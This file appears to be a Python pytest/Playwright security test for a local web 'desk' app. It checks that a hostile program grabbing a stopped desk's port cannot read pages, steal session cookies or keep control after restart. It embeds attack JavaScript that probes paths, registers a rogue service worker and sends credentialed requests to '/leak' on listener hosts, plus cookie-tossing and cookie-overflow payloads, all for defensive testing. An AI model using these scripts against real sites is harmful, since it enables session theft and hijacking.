"""Another user of the machine listens at the port of a desk that rests, while its pages are open in the browser."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from playwright.async_api import BrowserContext, Page, expect

from exchange.demo.processes import Commands
from exchange.service.run_folder import PAGES_FILE
from exchange.settings import WebSettings
from tests.worlds.browser import browser, chromium, window
from tests.worlds.desks import JP, PASSPHRASE, World
from tests.worlds.processes import free_port

pytestmark = [pytest.mark.outside, pytest.mark.skipif(chromium() is None, reason="no Chromium")]

BOARD = "What needs somebody now"
# What a script of the attacker's does under the old name, as long as its page is open.
ATTACK = """
const seen = [];
addEventListener("message", (said) => seen.push(String(said.data)));
const look = async () => {
  for (const path of ["/", "/settings", "/there", "/begin", "/cases", "/sign-in", "/nothing"]) {
    const said = await fetch(path, { cache: "no-store" }).catch(() => null);
    if (said) seen.push([said.status, said.redirected, said.url, ...said.headers, await said.text()].join(" "));
  }
  const act = await fetch("/lock", { method: "POST", body: "x=1" }).catch(() => null);
  if (act) seen.push(`${act.status} ${act.redirected} ${act.url} ${await act.text()}`);
};
const leak = async () => {
  for (const host of LEAKS) {
    await fetch(`http://${host}/leak`, { mode: "no-cors", credentials: "include" }).catch(() => null);
  }
};
const ready = navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready);
"""
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith(fetch(event.request)));
"""


@dataclass
class Listener:
    """A program of another user: what it was asked, and what it answers."""

    port: int
    leaks: list[str] = field(default_factory=list)
    cookies: list[str] = field(default_factory=list)
    asked: list[tuple[str, str, str]] = field(default_factory=list)

    async def answer(self, request: web.Request) -> web.Response:
        self.asked.append((request.headers.get("Host", ""), request.path, request.headers.get("Cookie", "")))
        if request.path == "/worker.js":
            return web.Response(text=WORKER, content_type="text/javascript")
        text = f"<!doctype html><title>Sign in</title><script>const LEAKS = {self.leaks};{ATTACK}</script>"
        response = web.Response(text=text, content_type="text/html")
        for one in self.cookies:
            response.headers.add("Set-Cookie", one)
        return response


@asynccontextmanager
async def listening(listener: Listener) -> AsyncIterator[Listener]:
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", listener.answer)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", listener.port, reuse_address=True).start()
    try:
        yield listener
    finally:
        await runner.cleanup()


async def sign_in(page: Page) -> None:
    await page.fill('[name="passphrase"]', PASSPHRASE.decode())
    await page.press('[name="passphrase"]', "Enter")
    await expect(page.get_by_role("heading", name=BOARD)).to_be_visible()


def cookie_of(origin: str) -> str:
    """The name of the session's cookie."""
    return "comity-" + re.sub(r"[^a-z0-9]", "-", origin.partition("//")[2])


async def cookies_of(opened: BrowserContext, host: str) -> dict[str, str]:
    return {one["name"]: one["value"] for one in await opened.cookies() if one["domain"] == host}


async def stays_silent_and_keeps_what_was_typed(board: Page, form: Page, door: Page, at: Listener) -> None:
    """Whatever is done on pages of a desk that went, nobody is asked, and what was typed stays to be copied.

    ``door`` is a page of signing in: that its desk is gone it finds out when somebody types a passphrase.
    """
    await door.fill('[name="passphrase"]', PASSPHRASE.decode())
    await door.press('[name="passphrase"]', "Enter")
    await expect(door.locator("#away")).to_be_visible()
    await door.get_by_role("button", name="Sign in with a passkey").click()
    await door.press('[name="passphrase"]', "Enter")
    assert all(path == "/there" and not cookie for _host, path, cookie in at.asked)
    at.asked.clear()
    for page in (board, form):
        await expect(page.locator("#away")).to_be_visible()
        await expect(page.locator("#away")).to_contain_text("comity desk open")
    await form.context.clock.run_for(600_000)
    await form.get_by_label("Time zone").press("End")
    await form.keyboard.type("kyo")
    await form.locator('form[action="/settings"] button').first.click()
    await form.get_by_role("link", name="Cases", exact=True).click()
    await board.get_by_role("link", name="Calendar", exact=True).click(button="middle")
    await board.keyboard.press("g")
    await board.keyboard.press("c")
    await expect(form.get_by_label("Time zone")).to_have_value("Asia/Tokyo")
    # When nobody was there for long, the page hides what it shows, and gives back what was typed to who asks for it.
    await form.context.clock.run_for(1_000_000)
    await expect(form.locator("#away-hidden")).to_be_visible()
    await expect(form.locator("main")).to_be_hidden()
    await form.get_by_role("button", name="Show what was typed").click()
    await expect(form.locator("#away-hidden textarea")).to_have_value("Asia/Tokyo")
    assert at.asked == []


async def test_who_listens_while_a_desk_rests_is_asked_nothing_by_its_pages_and_reaches_nothing_after_the_next_start(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = World(tmp_path, monkeypatch)
    port, beside = free_port(), Listener(free_port())
    world.change_settings(JP, web=WebSettings(port=port))
    home, passphrase = world.home(JP), tmp_path / "passphrase"
    passphrase.write_bytes(PASSPHRASE)
    passphrase.chmod(0o600)
    commands = Commands(passphrase)
    desk = await commands.start_desk(home)
    async with AsyncExitStack() as stack:
        chrome = await stack.enter_async_context(browser())
        # Nobody is signed in in the second one.
        opened, stranger = [await stack.enter_async_context(window(chrome, expected=("",))) for _ in range(2)]
        await stack.enter_async_context(listening(beside))
        await opened.clock.install()
        (old,) = desk.ready["pages"]
        old_host = urlsplit(old).hostname or ""
        steady = old_host.partition(".")[2]
        board, form = await opened.new_page(), await opened.new_page()
        await board.goto(f"{old}/sign-in")
        await sign_in(board)
        door = await stranger.new_page()
        await door.goto(f"{old}/sign-in")
        await form.goto(f"{old}/settings")
        await form.get_by_label("Time zone").fill("Asia/To")
        old_cookies = await cookies_of(opened, old_host)
        await desk.stop()

        more = (("comity-language", "ar"), (f"{cookie_of(old)}-language", "ar"), ("x", "y" * 500))
        tossed = [
            f"{name}={value}; Path={path}; Domain={domain}"
            for name, value in (*old_cookies.items(), *more)
            for path in ("/", "/settings")
            for domain in (steady, "jp.localhost")
        ]
        leaks = [f"{host}:{beside.port}" for host in (old_host, steady, "jp.localhost")]
        async with listening(Listener(port, leaks, tossed)) as attacker:
            await stays_silent_and_keeps_what_was_typed(board, form, door, attacker)
            # Somebody loads the old page all the same: now a page and a service worker of the attacker's are there.
            evil = await opened.new_page()
            await evil.goto(f"{old}/")
            await evil.evaluate("ready.then(() => true)")
            assert {host for host, _path, _cookie in attacker.asked} == {f"{old_host}:{port}"}

        desk = await commands.start_desk(home)
        try:
            (new,) = desk.ready["pages"]
            new_host = urlsplit(new).hostname or ""
            assert (new_host != old_host, new_host.partition(".")[2]) == (True, steady)
            own = await opened.new_page()
            await own.goto((Path(desk.ready["run_folder"]) / PAGES_FILE).as_uri())
            await own.wait_for_url(f"{new}/sign-in")
            await sign_in(own)
            value = (await cookies_of(opened, new_host))[cookie_of(new)]
            # The attacker's scripts go on under the old name: they read nothing, act on nothing, and learn no name.
            await evil.evaluate("look()")
            await evil.evaluate("leak()")
            seen = await evil.evaluate("seen")
            assert [one.partition(" ")[0] for one in seen] == ["421"] * 8
            told = "".join(seen)
            assert not any(one in told for one in (new_host.partition(".")[0], value, BOARD, "Sign out"))
            left = "navigator.serviceWorker.getRegistrations().then((all) => all.length)"
            assert await evil.evaluate(left) == 0
            assert beside.asked
            assert all(value not in cookie and new_host not in host for host, _path, cookie in beside.asked)
            # The officer's own page: no worker of another, still signed in, and in the officer's own language.
            assert await own.evaluate(f"!navigator.serviceWorker.controller && {left}") == 0
            await own.goto(f"{new}/settings")
            await expect(own.get_by_label("Time zone")).to_be_visible()
            await own.goto((Path(desk.ready["run_folder"]) / PAGES_FILE).as_uri())
            await own.wait_for_url(f"{new}/")
            await expect(own.get_by_role("heading", name=BOARD)).to_be_visible()
            # Loaded again, the old address says what it is.
            await evil.goto(f"{old}/")
            await expect(evil.get_by_text("comity desk open")).to_be_visible()
            # A browser that is filled with cookies lets them go, and whoever signs in again is let in.
            filled = f"['a','b','c','d','e'].forEach((one) => {{ document.cookie = `${{one}}={'z' * 4_000}; {{}}` }})"
            await evil.evaluate(filled.replace("{}", f"Domain={steady}"))
            unread = await own.goto(f"{new}/")
            assert unread is not None
            assert (unread.status, (await unread.all_headers())["clear-site-data"]) == (400, '"cookies"')
            await own.goto(f"{new}/sign-in")
            await sign_in(own)
        finally:
            await desk.stop()
